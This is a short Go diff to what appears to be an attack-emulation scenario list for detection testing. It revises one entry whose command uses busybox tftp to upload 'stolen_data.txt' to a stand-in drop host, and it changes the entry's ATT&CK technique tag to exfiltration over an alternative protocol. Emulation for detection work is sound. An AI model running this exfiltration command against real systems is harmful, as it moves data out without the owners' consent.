@@ -18,8 +18,8 @@ func others() []Scenario {
 		{
 			Name:      "tftp_put",
 			Summary:   "TFTP put, block by block over UDP",
-			Command:   `busybox tftp -p -l stolen_data.txt -r stolen_data.txt drop.example`,
-			Technique: "T1020", Process: "/usr/bin/busybox",
+			Command:   `busybox tftp -b 8192 -p -l stolen_data.txt -r stolen_data.txt drop.example`,
+			Technique: "T1048.003", Process: "/usr/bin/busybox",
 		},
 	}
 }
